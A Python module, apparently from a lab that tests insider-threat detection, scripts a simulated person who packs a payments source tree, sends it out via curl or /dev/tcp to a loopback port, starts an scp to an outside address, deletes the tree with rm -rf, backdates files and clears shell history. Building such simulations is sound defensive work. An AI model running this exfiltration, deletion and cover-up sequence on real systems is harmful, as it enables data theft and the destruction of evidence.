"""What the insider does: a scripted person at a bash prompt, who takes a source tree and covers it up.

The steps use what bash offers a person (completion, recall, line editing, Ctrl-C), one no-echo prompt,
answered wrong and then right, and a full-screen editor where there is one. Nothing here leaves the machine:
what is "sent out" goes to a server on loopback that keeps nothing. The script knows what it typed, for the
test that compares; the lab does not.
"""

from __future__ import annotations

import re
import secrets
import shutil
import string

from .typist import Typist

ARCHIVE = ".cache.tgz"


def new_passphrase() -> str:
    """Sixteen characters that occur nowhere else by chance."""
    return "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(16))


def prompt_pattern(ps1: str) -> re.Pattern[str]:
    """What a bash prompt (PS1) of plain text, `\\w`, `\\$` and `\\u@\\h` looks like on the screen."""
    pattern = re.escape(ps1)
    for code, shown in ((r"\w", r"[~/][^\s]*"), (r"\$", "[$#]"), (r"\u", r"[\w-]+"), (r"\h", r"[\w.-]+")):
        pattern = pattern.replace(re.escape(code), shown)
    return re.compile(pattern)


def insider(person: Typist, passphrase: str, port: int) -> None:
    """The whole session, from the first prompt to `exit`."""
    person.wait_for_prompt()
    person.pause(0.5)
    look_around(person)
    open_vault(person, passphrase)
    pack_and_send(person, port)
    destroy(person)
    cover_up(person)
    person.type("exit")
    person.submit("exit")
    person.wait_for_end()


def look_around(person: Typist) -> None:
    """List, complete a directory name, and start something that only Ctrl-C ends."""
    person.run("ls -l", reading=0.6)
    person.type("cd src/pay")
    person.press("tab")
    person.wait_for(r"cd src/payments/$")
    person.submit("cd src/payments/")
    person.wait_for_prompt()
    person.pause(0.4)
    person.run("ls", reading=0.4)
    person.run("head -n 4 README.md", reading=0.6)
    person.run("cd")
    person.type("tail -f log/app.log")
    person.submit("tail -f log/app.log")
    person.wait_for("rotated$")
    person.pause(0.8)
    person.press("ctrl-c")
    person.wait_for_prompt()


def open_vault(person: Typist, passphrase: str) -> None:
    """Answer a prompt without echo, wrong first."""
    person.type("vault-unlock")
    person.submit("vault-unlock")
    person.wait_for_question("deploy vault: $")
    person.type_blind(new_passphrase())
    person.wait_for_question("deploy vault: $")
    person.type_blind(passphrase)
    person.wait_for_prompt()
    person.pause(0.5)


def pack_and_send(person: Typist, port: int) -> None:
    """Pack the tree, send it out, recall the line, change it and send it once more."""
    person.run(f"tar czf {ARCHIVE} src/payments")
    person.run(f"ls -lh {ARCHIVE}", reading=0.5)
    sending = upload(port)
    person.run(sending, reading=0.6)
    person.press("up")
    person.wait_for(re.escape(sending) + r"$")
    person.pause(0.4)
    person.press("ctrl-a")
    person.type("time ")
    person.submit(f"time {sending}")
    person.wait_for_prompt()
    person.pause(0.6)
    person.cancel(f"scp {ARCHIVE} john@198.51.100.7:")


def upload(port: int) -> str:
    """A command line that this machine can run and that sends the archive to a port on loopback."""
    if shutil.which("curl"):
        return f"curl -sS -m 5 -T {ARCHIVE} http://127.0.0.1:{port}/drop"
    return f"cat {ARCHIVE} > /dev/tcp/127.0.0.1/{port}"


def destroy(person: Typist) -> None:
    """Mistype the directory, go back and mend it, delete it for good, and look whether it is gone."""
    person.type("rm -rf src/paymets")
    person.pause(0.4)
    person.press("left", "left")
    person.type("n")
    person.pause(0.4)
    person.submit("rm -rf src/payments")
    person.wait_for_prompt()
    person.pause(0.8)
    person.run("ls src", reading=0.5)


def cover_up(person: Typist) -> None:
    """Write an innocent note, give files an older date, forget the history."""
    if shutil.which("vim"):
        edit_notes(person)
    person.run("touch -d 2026-03-02T08:30:00 notes.txt src", reading=0.3)
    person.run("ls -l", reading=0.6)
    person.run("history -c", reading=0.4)


def edit_notes(person: Typist) -> None:
    """Add a line to the notes in vim; what is typed there is text, not a command."""
    person.type("vim notes.txt")
    person.submit("vim notes.txt")
    person.wait_for("notes.txt")
    person.pause(0.5)
    person.type("Go")
    person.wait_for("INSERT")
    person.type("payments moved to the new server, see wiki")
    person.pause(0.3)
    person.press("escape")
    person.type(":wq")
    person.press("enter")
    person.wait_for_prompt()
    person.pause(0.3)
